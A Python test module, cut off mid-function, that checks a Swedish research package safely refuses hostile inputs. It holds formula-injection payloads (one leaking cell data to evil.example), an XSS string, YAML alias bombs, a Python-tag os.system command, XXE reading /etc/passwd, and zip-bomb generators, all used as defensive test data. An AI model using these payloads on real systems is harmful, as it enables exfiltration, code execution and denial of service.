"""Hostile and broken input through every domain (issue 15): the held-out corpus, rebuilt.

Every hostile file is written by code in this module (into ``tmp_path``; nothing binary is
committed). Fast tests call each domain's reader in-process; the ``e2e`` tests run the real
notebooks with :func:`research.runs.run_notebook` (or the ``research`` console script where
stderr matters) and check the whole product: the tables it publishes, the briefing a reader
opens, the message a user sees, that the input is unchanged and that a failed run is never
published.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import re
import shutil
import subprocess
import sys
import zipfile
from html.parser import HTMLParser
from pathlib import Path

import pandas as pd
import pytest

from research.errors import ConfigError, InputDataError, ParameterError, ResearchError

ROOT = Path(__file__).resolve().parents[1]
SAMPLE = ROOT / "data" / "sample"
RESEARCH = Path(sys.executable).with_name("research")
PAYLOADS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Klicka")', "+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"]
SCRIPT = "<script>alert('xss-hostile')</script>"


# =======================================================================================
# The hostile corpus (generators)


def alias_bomb(levels: int = 9, width: int = 9, *, top: str = "mapping") -> str:
    """A "billion laughs" in YAML: ``width ** levels`` strings once the aliases expand,
    a few hundred bytes on disk."""
    lines = [f"a0: &a0 [{', '.join(['lol'] * width)}]"]
    for level in range(1, levels + 1):
        lines.append(f"a{level}: &a{level} [{', '.join([f'*a{level - 1}'] * width)}]")
    if top == "list":  # a sources list: the bomb inside the first entry
        return "- name: Bomb\n  kind: feed\n  location: x.xml\n" + "".join(
            f"  {line}\n" for line in lines)
    return "\n".join(lines) + "\n"


def write_csv(path: Path, rows: list[list[str]], *, encoding: str = "utf-8",
              delimiter: str = ",") -> Path:
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=delimiter, lineterminator="\n").writerows(rows)
    path.write_bytes(buffer.getvalue().encode(encoding))
    return path


def sample_rows(path: Path, *, encoding: str = "utf-8", delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_bytes().decode(encoding), newline=""),
                           delimiter=delimiter))


def truncated_xlsx(path: Path) -> Path:
    """A real workbook cut in half (an interrupted download or copy)."""
    whole = path.with_suffix(".whole.xlsx")
    pd.DataFrame({"datum": ["2026-01-05"], "aktivitet": ["utbildning"], "malgrupp": ["Skola"],
                  "deltagare": ["12"]}).to_excel(whole, index=False)
    data = whole.read_bytes()
    whole.unlink()
    path.write_bytes(data[: len(data) // 2])
    return path


def duplicate_xlsx(path: Path, header: list[str], row: list[str]) -> Path:
    from openpyxl import Workbook

    book = Workbook()
    book.active.append(header)
    book.active.append(row)
    book.save(path)
    return path


def binary_junk(path: Path) -> Path:
    path.write_bytes(bytes(range(256)) * 8 + os.urandom(2048))
    return path


HTML_PAGE = ("<!DOCTYPE html>\n<html lang=\"sv\"><head><title>Logga in</title></head>\n"
             "<body><form action=\"/login\"><input name=\"user\"></form></body></html>\n")


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def digests(paths) -> dict[str, str]:
    return {str(p): digest(p) for p in paths}


MALL_HEADER = ["datum", "aktivitet", "malgrupp", "deltagare"]
MALL_ROWS = [["2026-01-05", "utbildning", "Skola", "12"],
             ["2026-02-10", "konsultation", "Socialtjänsten", "3"],
             ["2026-03-03", "dialogmote", "Föräldrar", "20"]]


# =======================================================================================
# Fast tests: each domain's reader, no kernel


def _readers(tmp_path: Path):
    """(domain, read(path)) for every domain whose notebook reads a table."""
    from research import activities, evaluation, survey
    from research.literature.readers import read_records
    from research.situation.readers import load_reports

    good_ris = SAMPLE / "litteratur" / "scopus.ris"
    return {
        "mall": activities.read_activities,
        "enkatanalys": lambda p: survey.read_survey(p, SAMPLE / "enkat" / "kodbok.yaml"),
        "metodutvardering": lambda p: evaluation.analyse(p, measure="RR",
                                                        method_name="Mentorskap"),
        "lagesbild": load_reports,
        # literature reads several exports: a broken one is a reported skip
        "litteraturanalys": lambda p: read_records([p, good_ris]),
    }


DOMAINS = ["mall", "enkatanalys", "metodutvardering", "lagesbild", "litteraturanalys"]


def _outcome(domain: str, read, path: Path):
    """The error raised, or for literature the problem recorded for the skipped file."""
    try:
        result = read(path)
    except ResearchError as error:
        return error
    if domain == "litteraturanalys":
        files = result.files.set_index("fil")
        assert files.loc[path.name, "poster"] == 0, "the broken file gave records"
        assert files.loc[path.name, "status"] in ("hoppades över", "tom export")
        assert files.loc["scopus.ris", "poster"] > 0, "the good export must still be read"
        problems = result.problems[result.problems["file"] == path.name]
        assert len(problems) == 1
        return problems.iloc[0]["problem"]
    pytest.fail(f"{domain} accepted a broken file {path.name}")


@pytest.mark.parametrize("domain", DOMAINS)
def test_duplicate_column_names_are_refused_before_renaming(domain: str, tmp_path: Path) -> None:
    header = ["datum", "aktivitet", "malgrupp", "deltagare", "malgrupp", "k1", "k1", "title",
              "title"]
    path = write_csv(tmp_path / "dubbla.csv", [header, ["2026-01-05"] + ["1"] * 8])
    before = digest(path)
    outcome = _outcome(domain, _readers(tmp_path)[domain], path)
    text = outcome if isinstance(outcome, str) else outcome.message
    assert "duplicate column" in text and "'malgrupp'" in text, text
    assert "malgrupp.1" not in text and "k1.1" not in text
    if not isinstance(outcome, str):
        assert isinstance(outcome, InputDataError)
        assert outcome.fields["file"] == str(path) and outcome.fields["column"] == "malgrupp"
    assert digest(path) == before


@pytest.mark.parametrize("change, message, column", [
    ("drop", "column(s) 'k2' from the codebook are missing in the data", "k2"),
    ("drop-and-duplicate", "duplicate column name(s) 'k3'", "k3")])
def test_survey_blames_the_real_column(change: str, message: str, column: str,
                                       tmp_path: Path) -> None:
    """Issue 15: with pandas' renaming, a duplicate 'q1' was read as 'q1.1' and the
    message blamed another column (or none)."""
    from research import survey

    rows = sample_rows(SAMPLE / "enkat" / "enkat.csv", encoding="cp1252", delimiter=";")
    k2 = rows[0].index("k2")
    extra = 1 if change == "drop-and-duplicate" else 0
    rows = [row[:k2] + row[k2 + 1:k2 + 1 + extra] + row[k2 + 1:] for row in rows]
    path = write_csv(tmp_path / "enkat.csv", rows, encoding="cp1252", delimiter=";")
    with pytest.raises(InputDataError) as caught:
        survey.read_survey(path, SAMPLE / "enkat" / "kodbok.yaml")
    assert message in caught.value.message and caught.value.fields["column"] == column


@pytest.mark.parametrize("domain", DOMAINS)
def test_duplicate_column_names_in_a_workbook_are_refused(domain: str, tmp_path: Path) -> None:
    path = duplicate_xlsx(tmp_path / "dubbla.xlsx", ["datum", "q1", "q1", "deltagare"],
                          ["2026-01-05", "1", "2", "3"])
    outcome = _outcome(domain, _readers(tmp_path)[domain], path)
    text = outcome if isinstance(outcome, str) else outcome.message
    assert "duplicate column" in text and "'q1'" in text, text


def test_workbook_zip_bomb_is_refused_before_unpacking(tmp_path: Path) -> None:
    # fixed in research/io/tables.py: only the compressed size was limited; openpyxl loads the
    # shared strings whole, so a small .xlsx could unpack to gigabytes
    from research.io.tables import TableLimits, read_table

    path = tmp_path / "bomb.xlsx"
    pd.DataFrame({"datum": ["2026-01-05"] * 3, "malgrupp": ["a" * 30_000, "b" * 30_000,
                                                            "c" * 30_000]}).to_excel(path,
                                                                                     index=False)
    assert path.stat().st_size < 20_000  # 90 kB of text compresses to almost nothing
    with zipfile.ZipFile(path) as package:
        unpacked = sum(info.file_size for info in package.infolist())
    assert len(read_table(path, limits=TableLimits(max_unpacked_bytes=unpacked))) == 3
    with pytest.raises(InputDataError) as caught:
        read_table(path, limits=TableLimits(max_unpacked_bytes=unpacked - 1))
    assert caught.value.fields["limit"] == "max_unpacked_bytes"
    assert f"{unpacked:,} bytes" in caught.value.message


@pytest.mark.parametrize("domain", DOMAINS)
def test_empty_column_names_are_refused_naming_the_position(domain: str, tmp_path: Path) -> None:
    path = write_csv(tmp_path / "tomma.csv", [["datum", "", "malgrupp", " "],
                                              ["2026-01-05", "x", "Skola", "1"]])
    outcome = _outcome(domain, _readers(tmp_path)[domain], path)
    text = outcome if isinstance(outcome, str) else outcome.message
    assert "column(s) 2, 4 have no name" in text, text


@pytest.mark.parametrize("domain", DOMAINS)
def test_truncated_workbook_is_a_clear_error_or_a_reported_skip(domain: str,
                                                                 tmp_path: Path) -> None:
    path = truncated_xlsx(tmp_path / "avbruten.xlsx")
    before = digest(path)
    outcome = _outcome(domain, _readers(tmp_path)[domain], path)
    text = outcome if isinstance(outcome, str) else outcome.message
    assert "cannot read the Excel workbook" in text and str(path.name) in text, text
    assert digest(path) == before


@pytest.mark.parametrize("domain", DOMAINS)
def test_binary_junk_is_called_binary_not_a_header_only(domain: str, tmp_path: Path) -> None:
    path = binary_junk(tmp_path / "skräp.csv")
    outcome = _outcome(domain, _readers(tmp_path)[domain], path)
    text = outcome if isinstance(outcome, str) else outcome.message
    assert "binary" in text, text
    assert "header" not in text


@pytest.mark.parametrize("domain", DOMAINS)
def test_html_page_saved_as_csv_is_refused_by_name(domain: str, tmp_path: Path) -> None:
    path = tmp_path / "export.csv"
    path.write_text(HTML_PAGE, encoding="utf-8")
    # fixed in research/io/tables.py: each domain blamed missing columns of '<!DOCTYPE html>'
    outcome = _outcome(domain, _readers(tmp_path)[domain], path)
    text = outcome if isinstance(outcome, str) else outcome.message
    assert f"{path}: the file is a web page (HTML), not a table." in text, text
    if not isinstance(outcome, str):
        assert outcome.fields["file"] == str(path)


@pytest.mark.parametrize("domain", DOMAINS)
def test_a_quote_never_closed_is_named_not_swallowing_the_rest(domain: str,
                                                               tmp_path: Path) -> None:
    # fixed in research/io/tables.py: the lenient csv parse read every line after an
    # unclosed quote as one cell, so a log or a lägesbild lost all later rows without a word
    lines = [",".join(MALL_HEADER)] + [f"2026-01-{day:02d},utbildning,Skola,{day}"
                                       for day in range(1, 29)]
    lines[9] = '2026-01-09,utbildning,"Skola och fritid,9'
    path = tmp_path / "rapporter.csv"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    outcome = _outcome(domain, _readers(tmp_path)[domain], path)
    text = outcome if isinstance(outcome, str) else outcome.message
    assert "opens a cell in line 10 is never closed" in text, text
    if not isinstance(outcome, str):
        assert outcome.fields["row"] == 10


@pytest.mark.parametrize("domain", DOMAINS)
def test_a_stray_quote_closed_by_a_later_quote_is_named(domain: str, tmp_path: Path) -> None:
    # fixed in research/io/tables.py: the stray quote in line 3 was closed by the quote
    # before "Fritid" in line 5, and lines 3-5 came out as one valid-looking row
    lines = [",".join(MALL_HEADER)] + [f"2026-01-{day:02d},utbildning,Skola,{day}"
                                       for day in range(1, 9)]
    lines[2] = '2026-01-02,utbildning,"Skola och fritid,2'
    lines[4] = '2026-01-04,utbildning,"Fritid",4'
    path = tmp_path / "rapporter.csv"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    outcome = _outcome(domain, _readers(tmp_path)[domain], path)
    text = outcome if isinstance(outcome, str) else outcome.message
    assert "a quote (\") in line 3 is not balanced: lines 3–5 would be read as one row" in text


def test_html_page_saved_as_ris_is_a_reported_skip(tmp_path: Path) -> None:
    from research.literature.readers import read_records

    page = tmp_path / "scopus_sida.ris"
    page.write_text(HTML_PAGE, encoding="utf-8")
    result = read_records([page, SAMPLE / "litteratur" / "scopus.ris"])
    files = result.files.set_index("fil")
    assert files.loc[page.name, "poster"] == 0 and files.loc["scopus.ris", "poster"] > 0
    assert files.loc[page.name, "status"] in ("hoppades över", "tom export")
    assert (result.problems["file"] == page.name).sum() >= 1


@pytest.mark.parametrize("encoding", ["cp1252", "utf-8-sig", "utf-16"])
def test_swedish_excel_encodings_are_read_correctly(encoding: str, tmp_path: Path) -> None:
    from research import activities

    path = write_csv(tmp_path / "aktiviteter.csv", [MALL_HEADER, *MALL_ROWS],
                     encoding=encoding, delimiter=";")
    log = activities.read_activities(path)
    assert list(log.columns) == MALL_HEADER  # no '\ufeffdatum'
    assert log["malgrupp"].tolist() == ["Skola", "Socialtjänsten", "Föräldrar"]
    assert log["deltagare"].tolist() == [12, 3, 20]


def test_cp1252_survey_with_bom_free_text_is_read(tmp_path: Path) -> None:
    from research import survey

    rows = sample_rows(SAMPLE / "enkat" / "enkat.csv", encoding="cp1252", delimiter=";")
    path = write_csv(tmp_path / "enkat.csv", rows, encoding="utf-8-sig", delimiter=";")
    enkat = survey.read_survey(path, SAMPLE / "enkat" / "kodbok.yaml")
    assert "resp_id" in enkat.data.columns
    assert enkat.data["fritext_behov"].astype(str).str.contains("påverkas").any()


def test_oversized_table_just_over_the_limit_is_refused(tmp_path: Path,
                                                        monkeypatch: pytest.MonkeyPatch) -> None:
    from research import activities
    from research.io import tables

    path = write_csv(tmp_path / "aktiviteter.csv", [MALL_HEADER, *MALL_ROWS])
    size = path.stat().st_size
    monkeypatch.setitem(tables.read_table.__kwdefaults__, "limits",
                        tables.TableLimits(max_bytes=size))
    assert len(activities.read_activities(path)) == 3  # exactly at the limit: read
    monkeypatch.setitem(tables.read_table.__kwdefaults__, "limits",
                        tables.TableLimits(max_bytes=size - 1))
    with pytest.raises(InputDataError) as caught:
        activities.read_activities(path)
    assert caught.value.fields["limit"] == "max_bytes" and f"{size - 1:,}" in caught.value.message
    assert caught.value.fields["file"] == str(path)


@pytest.mark.parametrize("limit, value, over", [
    ("max_rows", 3, 2), ("max_columns", 4, 3), ("max_cell_chars", 14, 13)])
def test_row_column_and_cell_limits_just_under_and_over(limit: str, value: int, over: int,
                                                        tmp_path: Path) -> None:
    from research.io.tables import TableLimits, read_table

    path = write_csv(tmp_path / "t.csv", [MALL_HEADER, *MALL_ROWS])  # 'Socialtjänsten' = 14
    assert len(read_table(path, limits=TableLimits(**{limit: value}))) == 3
    with pytest.raises(InputDataError) as caught:
        read_table(path, limits=TableLimits(**{limit: over}))
    assert caught.value.fields["limit"] == limit


def test_yaml_just_under_and_over_the_alias_limit(monkeypatch: pytest.MonkeyPatch) -> None:
    from research.io import files

    # root + key a0 + [10 values] + key a1 + [10 aliases of the 10 values] = 125 nodes
    text = "a0: &a0 [" + ", ".join(["x"] * 10) + "]\na1: [" + ", ".join(["*a0"] * 10) + "]\n"
    monkeypatch.setitem(files.YAML_LIMITS, "max_nodes", 125)
    assert len(files.safe_load_limited(text)["a1"]) == 10
    monkeypatch.setitem(files.YAML_LIMITS, "max_nodes", 124)
    with pytest.raises(ConfigError) as caught:
        files.safe_load_limited(text)
    assert caught.value.fields["limit"] == "max_nodes"


def test_yaml_nesting_just_over_the_depth_limit() -> None:
    from research.io.files import YAML_LIMITS, safe_load_limited

    depth = YAML_LIMITS["max_depth"]
    assert safe_load_limited("[" * depth + "]" * depth) is not None
    with pytest.raises(ConfigError) as caught:
        safe_load_limited("[" * (depth + 2) + "]" * (depth + 2))
    assert caught.value.fields["limit"] == "max_depth"


def _yaml_loaders():
    from research.evaluation.grading import load_register
    from research.scanning.sourcelist import load_sources
    from research.scanning.themes import load_taxonomy
    from research.situation.readers import load_schema
    from research.survey.codebook import load_codebook

    return {"sources": (load_sources, "list"), "codebook": (load_codebook, "mapping"),
            "register": (load_register, "mapping"), "schema": (load_schema, "mapping"),
            "taxonomy": (load_taxonomy, "mapping")}


@pytest.mark.parametrize("parameter", ["sources", "codebook", "register", "schema", "taxonomy"])
def test_yaml_alias_bomb_is_refused_before_expansion(parameter: str, tmp_path: Path) -> None:
    load, top = _yaml_loaders()[parameter]
    path = tmp_path / f"{parameter}.yaml"
    path.write_text(alias_bomb(top=top), encoding="utf-8")
    before = digest(path)
    with pytest.raises(ResearchError) as caught:
        load(path)
    error = caught.value
    assert error.fields.get("limit") == "max_nodes", error
    assert error.fields.get("file") == str(path) and str(path) in error.message
    assert error.fields.get("parameter") == parameter
    assert digest(path) == before


def test_duplicate_yaml_keys_are_refused_naming_the_line(tmp_path: Path) -> None:
    # fixed in research/io/files.py: PyYAML keeps the last of two equal keys without a word,
    # so a codebook that defines k1 twice silently lost the first definition
    from research.errors import SchemaError
    from research.survey.codebook import load_codebook

    text = (SAMPLE / "enkat" / "kodbok.yaml").read_text(encoding="utf-8")
    path = tmp_path / "kodbok.yaml"
    path.write_text(text.replace("variables:\n", "variables:\n  k1: {label: Dubbel, type: text}\n",
                                 1), encoding="utf-8")
    line = path.read_text(encoding="utf-8").splitlines().index("  k1: {label: Dubbel, type: text}")
    with pytest.raises(SchemaError) as caught:
        load_codebook(path)
    assert "the key 'k1' appears twice" in caught.value.message and str(path) in caught.value.message
    assert caught.value.fields["parameter"] == "codebook" and caught.value.fields["row"] > line + 1


def test_alias_bomb_in_a_parameter_override_is_refused() -> None:
    # fixed in research/parameters.py: `-p NAME VALUE` used plain yaml.safe_load, so a
    # 300-byte value (e.g. for enkatanalys' `cluster`, typed "any") expanded into gigabytes
    # when the manifest was written
    from research.parameters import parse_override

    bomb = "[" + ", ".join(["&a0 [x, x, x, x, x, x, x, x, x]"] + [
        f"&a{i} [{', '.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 9)]) + "]"
    with pytest.raises(ParameterError) as caught:
        parse_override("cluster", bomb)
    assert caught.value.fields == {"limit": "max_nodes", "parameter": "cluster"}
    assert parse_override("group_by", "[forvaltning, utbildning]") == ["forvaltning",
                                                                      "utbildning"]


def test_alias_bomb_in_a_parameter_file_names_the_file(tmp_path: Path) -> None:
    from research.parameters import load_parameter_file

    path = tmp_path / "bomb.yaml"
    path.write_text(alias_bomb(), encoding="utf-8")
    with pytest.raises(ParameterError) as caught:
        load_parameter_file(path)
    assert caught.value.fields["limit"] == "max_nodes" and str(path) in caught.value.message


def test_python_tags_in_yaml_are_refused(tmp_path: Path) -> None:
    from research.scanning.sourcelist import load_sources

    path = tmp_path / "sources.yaml"
    path.write_text("- !!python/object/apply:os.system ['touch /tmp/hostile-pwned']\n")
    with pytest.raises(ConfigError) as caught:
        load_sources(path)
    assert str(path) in caught.value.message
    assert not Path("/tmp/hostile-pwned").exists()


def test_write_table_neutralises_formulas_and_keeps_numbers(tmp_path: Path) -> None:
    from research.io.tables import write_table

    frame = pd.DataFrame({"Rubrik": PAYLOADS + ["\tTAB", "vanlig text"],
                          "n": [1, 2, 3, 4, 5, 6], "x": [-1.5, 2.0, -3.25, 0.0, 1e-3, -7.0],
                          "text_number": ["-3", "+1,5", "-0.25", "12", "1 234", "-"]})
    for suffix in (".csv", ".xlsx"):
        path = write_table(frame, tmp_path / f"t{suffix}")
        if suffix == ".csv":
            rows = list(csv.reader(path.read_text(encoding="utf-8").splitlines()))
            cells = [row[0] for row in rows[1:]]
            numbers = [row[1:3] for row in rows[1:]]
            texts = [row[3] for row in rows[1:]]
        else:
            from openpyxl import load_workbook

            sheet = load_workbook(path).active
            values = list(sheet.iter_rows(min_row=2, values_only=True))
            cells = [row[0] for row in values]
            numbers = [row[1:3] for row in values]
            texts = [row[3] for row in values]
            assert all(isinstance(v, (int, float)) for pair in numbers for v in pair)
        assert cells == ["'" + p for p in PAYLOADS] + ["'\tTAB", "vanlig text"]
        assert [str(v) for v in numbers[0]] == ["1", "-1.5"]
        assert texts[:5] == ["-3", "+1,5", "-0.25", "12", "1 234"] and texts[5] == "'-"


def test_dates_like_03_04_2025_are_bad_dates_not_phone_numbers(tmp_path: Path) -> None:
    # fixed in research/privacy/masking.py: a dd/mm/yyyy date matched the phone pattern
    # (area code 03 + groups), so the lägesbild blamed 'datum' for holding phone numbers
    from research.errors import SchemaError
    from research.situation.readers import load_reports

    rows = sample_rows(SAMPLE / "lagesbild" / "rapporter.csv")[:40]
    for row in (3, 7, 12, 30):
        rows[row][0] = "03/04/2025"
    rows[20][0] = "31.12.2025"
    path = write_csv(tmp_path / "rapporter.csv", rows)
    with pytest.raises(SchemaError) as caught:
        load_reports(path, as_of="2026-09-30")
    message = caught.value.message
    assert "telefon" not in message
    assert "not YYYY-MM-DD in row(s) 3, 7, 12, 20, 30" in message, message
    assert "rapporter.csv" in message


def test_phone_numbers_are_still_found_beside_dates() -> None:
    from research.privacy.masking import find_identifier_spans

    kinds = [s.kind for s in find_identifier_spans("Ring 070-123 45 67 eller 08/12 34 56")]
    assert kinds.count("telefonnummer") == 2
    assert find_identifier_spans("Mötet 03/04/2025 och 2025-04-03", None) == []


def test_mall_lists_every_bad_date_row(tmp_path: Path) -> None:
    # fixed in research/activities/core.py: only the first bad row was named
    from research import activities
    from research.errors import SchemaError

    rows = [MALL_HEADER, ["03/04/2025", "utbildning", "Skola", "3"], *MALL_ROWS,
            ["2026-13-01", "utbildning", "Skola", "3"]]
    path = write_csv(tmp_path / "aktiviteter.csv", rows)
    with pytest.raises(SchemaError) as caught:
        activities.read_activities(path)
    assert caught.value.fields["column"] == "datum"
    assert "rows 2, 6" in caught.value.message and "'03/04/2025'" in caught.value.message


def test_missing_reports_file_is_blamed_on_reports(tmp_path: Path) -> None:
    # fixed in research/situation/readers.py: load_reports read the reports file as the
    # "scanning themes file" of parameter 'compare_scanning'
    from research.situation.readers import load_reports

    with pytest.raises(InputDataError) as caught:
        load_reports(tmp_path / "saknas.csv")
    assert caught.value.fields["parameter"] == "reports"
    assert caught.value.message.startswith("Reports file not found")


@pytest.mark.parametrize("with_sei", [True, False], ids=["empty-sei", "no-variance-column"])
def test_missing_vi_is_blamed_on_vi(with_sei: bool, tmp_path: Path) -> None:
    from research import evaluation

    rows = [["study", "method", "year", "design", "yi", "sei", "comment"],
            ["A 2019", "Mentorskap", "2019", "rct", "-0,2", "", ""],
            ["B 2020", "Mentorskap", "2020", "rct", "-0,1", "0,05", ""],
            ["C 2021", "Mentorskap", "2021", "rct", "0,1", "0,08", ""]]
    if not with_sei:
        rows = [row[:5] + row[6:] for row in rows]
    path = write_csv(tmp_path / "utv.csv", rows, delimiter=";")
    before = digest(path)
    if with_sei:  # a study without a variance is dropped and reported (metafor's rule)
        result = evaluation.analyse(path, measure="SMD", method_name="Mentorskap")
        dropped = result.dropped()[0]
        assert dropped.startswith("A 2019 (rad 2)") and "(vi)" in dropped and "m1i" not in dropped
    else:  # nothing left: the error names the missing variance, not the raw-data columns
        with pytest.raises(InputDataError) as caught:
            evaluation.analyse(path, measure="SMD", method_name="Mentorskap")
        assert "(vi)" in caught.value.message and "m1i" not in caught.value.message
        assert caught.value.fields == {"file": str(path), "parameter": "evaluations"}
    assert digest(path) == before


@pytest.mark.parametrize("log, header, parameter", [
    ("screening", "record_id,decision,time,reviewer,decision", "screening_log"),
    ("dedup", "left_id,right_id,decision,decision", "dedup_log")])
def test_review_logs_refuse_duplicate_columns(log: str, header: str, parameter: str,
                                              tmp_path: Path) -> None:
    # fixed in research/literature/screening/log.py and research/literature/dedup_review.py:
    # both used header.index(), so a second 'decision' column was silently ignored
    from research.literature.dedup_review import read_dedup_decisions
    from research.literature.screening.log import read_screening_log

    read = read_screening_log if log == "screening" else read_dedup_decisions
    path = tmp_path / "logg.csv"
    path.write_text(header + "\nr1,include,2026-01-01,exclude\n", encoding="utf-8")
    before = digest(path)
    with pytest.raises(InputDataError) as caught:
        read(path)
    assert "duplicate column name(s) 'decision'" in caught.value.message
    assert caught.value.fields["parameter"] == parameter
    assert digest(path) == before


def test_screening_log_with_a_giant_cell_is_a_clear_error(tmp_path: Path) -> None:
    # fixed in research/literature/screening/log.py: csv's field limit raised a bare _csv.Error
    from research.literature.screening.log import read_screening_log

    path = tmp_path / "logg.csv"
    path.write_text("record_id,decision,time,reviewer\nr1,include,2026-01-01,"
                    + "A" * 200_000 + "\n", encoding="utf-8")
    with pytest.raises(InputDataError) as caught:
        read_screening_log(path)
    assert "field larger than field limit" in caught.value.message
    assert caught.value.fields["file"] == str(path)


XML_BOMB = ("<?xml version=\"1.0\"?>\n<!DOCTYPE rss [<!ENTITY a \"lol\">"
            + "".join(f"<!ENTITY {chr(98 + i)} \"{('&' + chr(97 + i) + ';') * 10}\">"
                      for i in range(8))
            + "]>\n<rss version=\"2.0\"><channel><title>&i;</title></channel></rss>\n")
XXE = ("<?xml version=\"1.0\"?>\n<!DOCTYPE rss [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>\n"
       "<rss version=\"2.0\"><channel><title>&x;</title><item><title>&x;</title>"
       "</item></channel></rss>\n")


@pytest.mark.parametrize("content", [XML_BOMB, XXE, "<rss>" * 5000, "\x00\x01junk" * 100],
                         ids=["entity-expansion", "external-entity", "deep-nesting", "binary"])
def test_hostile_feeds_are_a_reported_source_error(content: str, tmp_path: Path) -> None:
    from research.scanning.sourcelist import Source
    from research.scanning.sources import read_sources

    bad = tmp_path / "fientlig.xml"
    bad.write_text(content, encoding="utf-8")
    good = SAMPLE / "omvarld" / "feeds" / "alvstads_tidning.xml"
    items, statuses = read_sources([Source("Fientlig", "feed", str(bad)),
                                    Source("Älvstads Tidning", "feed", str(good))])
    by_name = {status.source: status for status in statuses}
    assert by_name["Fientlig"].status == "error" and by_name["Fientlig"].items == 0
    assert by_name["Fientlig"].error  # a Swedish explanation for the coordinator
    assert by_name["Älvstads Tidning"].status == "ok" and len(items) > 0
    assert "root:" not in items.to_string()  # /etc/passwd never entered the items


def test_feed_items_keep_only_http_links(tmp_path: Path) -> None:
    from research.scanning.sourcelist import Source
    from research.scanning.sources import read_sources

    good = SAMPLE / "omvarld" / "feeds" / "alvstads_tidning.xml"  # holds a javascript: item
    items, _ = read_sources([Source("Älvstads Tidning", "feed", str(good))])
    links = [str(v) for v in items["url"].dropna() if str(v)]
    assert links and all(link.startswith(("http://", "https://")) for link in links), links


def _zip_bomb_docx(path: Path) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", "<Types/>")
        for number in range(3):
            package.writestr(f"word/media/fill{number}.bin", b"\0" * (1024 * 1024))
    return path


@pytest.mark.parametrize("name", ["bomb.docx", "trasig.pdf", "trasig.docx"])
def test_hostile_documents_in_a_folder_source_are_reported_skips(
        name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from research.scanning import sources
    from research.scanning.sourcelist import Source
    from research.scanning.sources import read_sources

    # the zip bomb unpacks to 3 MiB: just over a limit patched down from 200 MiB
    monkeypatch.setattr(sources, "LIMITS", sources.ReaderLimits(max_docx_unpacked=3 * 2**20 - 1))

    folder = tmp_path / "dokument"
    folder.mkdir()
    (folder / "bra.txt").write_text("Unga i Älvstad\nRadikalisering bland unga i Älvstad.\n",
                                    encoding="utf-8")
    if name == "bomb.docx":
        _zip_bomb_docx(folder / name)
    else:
        (folder / name).write_bytes(b"%PDF-1.7\n" + os.urandom(3000) if name.endswith(".pdf")
                                    else b"PK\x03\x04" + os.urandom(3000))
    before = digest(folder / name)
    items, statuses = read_sources([Source("Mapp", "folder", str(folder))])
    errors = [s for s in statuses if s.status == "error"]
    assert len(errors) == 1 and errors[0].error, statuses
    assert len(items) == 1  # the good document is still read
    if name == "bomb.docx":
        assert "max_docx_unpacked" in errors[0].cause
    assert digest(folder / name) == before


def _personnummer() -> str:
    digits = "811218987"
    total = sum(sum(divmod(int(d) * (2 - i % 2), 10)) for i, d in enumerate(digits))
    return f"19{digits[:6]}-{digits[6:]}{(10 - total % 10) % 10}"


def test_planted_personnummer_is_refused_without_echoing_it(tmp_path: Path) -> None:
    from research.errors import PrivacyError
    from research.situation.readers import load_reports

    rows = sample_rows(SAMPLE / "lagesbild" / "rapporter.csv")[:30]
    number = _personnummer()
    rows[5][-1] = f"Eleven {number} har uttryckt oro."
    path = write_csv(tmp_path / "rapporter.csv", rows)
    with pytest.raises(PrivacyError) as caught:
        load_reports(path, as_of="2026-09-30")
    assert "row(s) 5" in caught.value.message and "'sammanfattning'" in caught.value.message
    assert number not in str(caught.value) and number[2:] not in str(caught.value)


def test_empty_and_zero_hit_exports_count_as_zero_beside_good_ones(tmp_path: Path) -> None:
    from research.literature.readers import read_records

    empty = tmp_path / "pubmed.ris"
    empty.write_bytes(b"")
    header_only = write_csv(tmp_path / "swepub.csv",
                            sample_rows(SAMPLE / "litteratur" / "diva.csv")[:1])
    result = read_records([empty, header_only, SAMPLE / "litteratur" / "scopus.ris"])
    files = result.files.set_index("fil")
    assert files.loc["pubmed.ris", "poster"] == 0 and files.loc["swepub.csv", "poster"] == 0
    assert set(files.loc[["pubmed.ris", "swepub.csv"], "status"]) == {"tom export"}
    with pytest.raises(InputDataError) as caught:  # nothing readable left: then it fails
        read_records([empty, header_only])
    assert caught.value.fields["parameter"] == "records"


def test_oversized_spss_file_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # fixed in research/io/tables.py: read_sav (used directly by read_survey for .sav)
    # had no size limit
    from research import survey
    from research.io import tables

    sav = SAMPLE / "enkat" / "enkat.sav"
    monkeypatch.setattr(tables, "LIMITS", tables.TableLimits(max_bytes=sav.stat().st_size - 1))
    with pytest.raises(InputDataError) as caught:
        survey.read_survey(sav, SAMPLE / "enkat" / "kodbok.yaml")
    assert caught.value.fields["limit"] == "max_bytes" and caught.value.fields["file"] == str(sav)


def test_infinite_effect_sizes_name_file_row_and_column(tmp_path: Path) -> None:
    from research import evaluation

    rows = [["study", "method", "year", "design", "yi", "vi"],
            ["A 2019", "Mentorskap", "2019", "rct", "1e400", "0,1"],
            ["B 2020", "Mentorskap", "2020", "rct", "-inf", "0,05"]]
    path = write_csv(tmp_path / "utv.csv", rows, delimiter=";")
    with pytest.raises(InputDataError) as caught:
        evaluation.analyse(path, measure="SMD", method_name="Mentorskap")
    assert caught.value.fields == {"file": str(path), "row": 2, "column": "yi"}
    assert "not a finite number" in caught.value.message


# =======================================================================================
# e2e: the notebooks, with a real kernel


def test_bundle_table_with_duplicate_columns_is_refused(tmp_path: Path) -> None:
    # fixed in research/exchange.py: check_table accepted 'antal,antal' (both declared), and
    # the national inbox's pd.read_csv then read the second as 'antal.1'
    from research.exchange import TableSchema, check_table

    schema = TableSchema("by_unit", 1, {"enhet": {"type": "text"}, "antal": {"type": "text"}})
